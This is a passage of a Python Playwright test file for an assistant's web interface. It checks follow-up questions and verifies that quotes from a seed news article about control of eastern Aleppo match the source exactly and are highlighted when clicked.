    expect(page.locator(".answer").last.locator(".follow-up")).to_have_count(1)
    expect(visit(page.url).locator(".follow-up")).to_have_text(["Why?"])
    page.locator(".follow-up").click()
    expect(page.locator(".answer")).to_have_count(3)
    expect(page.locator(".follow-ups")).to_have_count(0)


# ---- The whole, with nothing stood in for -----------------------------------------------------

SEED = Path(__file__).parents[3] / "shared" / "data" / "seed" / "aleppo.txt"
ALEPPO = [
    ("Syrian government and allied troops", "northern parts"),
    ("The Russian Ministry of Defence said Tuesday", '"half" of eastern Aleppo has been "liberated"'),
    ("Rebels say they will not withdraw from eastern Aleppo", ""),
]


@pytest.mark.skipif(not SEED.exists(), reason="the seed article is not here")
def test_who_controls_eastern_aleppo(open_assistant, serve_page, visit, tmp_path):
    assistant = open_assistant(tmp_path / "library", [SEED])
    assistant.ask("who?")  # the parser is loaded with the first answer, which takes a moment
    text = SEED.read_text("utf-8")
    page = visit(serve_page(assistant).url)
    answer = ask(page, "who controls eastern Aleppo?")
    quotes = answer.locator("blockquote .verbatim").all_text_contents()
    answer.locator(".more").evaluate_all("all => all.forEach(more => { more.open = true; })")
    for begins, holds in ALEPPO:
        [number, *_] = [n for n, quote in enumerate(quotes) if quote.startswith(begins) and holds in quote]
        answer.locator(".chip").nth(number).click()
        expect(page.locator("#source mark")).to_have_text(quotes[number])
        expect(page.locator("#source mark")).to_be_in_viewport(ratio=1)
        assert page.locator("#source-text").text_content() == text
        assert text.startswith(quotes[number], len(page.locator("#source-before").text_content()))
